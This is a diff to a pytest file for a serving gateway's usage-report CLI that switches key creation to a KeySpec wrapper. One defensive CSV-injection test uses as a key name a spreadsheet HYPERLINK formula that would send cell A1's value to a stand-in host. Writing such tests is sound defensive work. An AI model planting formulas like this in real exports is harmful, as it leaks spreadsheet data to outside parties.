@@ -20,6 +20,7 @@ import pytest
 
 from serving import cli
 from serving.gateway.keys import SqliteKeyStore
+from serving.gateway.keys.record import KeySpec
 from serving.gateway.usage_ledger import report
 from serving.gateway.usage_ledger.redis_store import RedisUsageStore
 from serving.gateway.usage_ledger.sqlite_store import SqliteUsageStore
@@ -117,7 +118,7 @@ def test_a_key_named_as_a_formula_is_text_in_the_csv(
     """CSV injection (OWASP): the name a tenant's key was given reaches a spreadsheet as text."""
     formula = '=HYPERLINK("http://x/?"&A1,"t")'
     keys = SqliteKeyStore(tmp_path / "keys.db")
-    key_id = keys.create(formula)[0].key_id
+    key_id = keys.create(KeySpec(formula))[0].key_id
     keys.close()
     record_file(tmp_path / "keys.db", {("2026-03-01", key_id, "qwen3-tiny"): [12, 30]})
     code, out, _ = serving(
@@ -204,7 +205,7 @@ def test_the_page_commands_print_what_it_shows(
     ids: dict[str, str] = {}
     # The report sorts by key id: the stand-ins must sort as the page's ids do.
     while sorted(ids) != sorted(ids, key=ids.__getitem__) or len(ids) < len(names):
-        ids = {shown: keys.create(names[shown])[0].key_id for shown in sorted(names)}
+        ids = {shown: keys.create(KeySpec(names[shown]))[0].key_id for shown in sorted(names)}
     keys.close()
     batch: Batch = {(d, ids[k], m): [int(p), int(c)] for d, k, _, m, p, c, _ in day_rows}
     record(tmp_path / "keys.db", redis_server.url, batch)
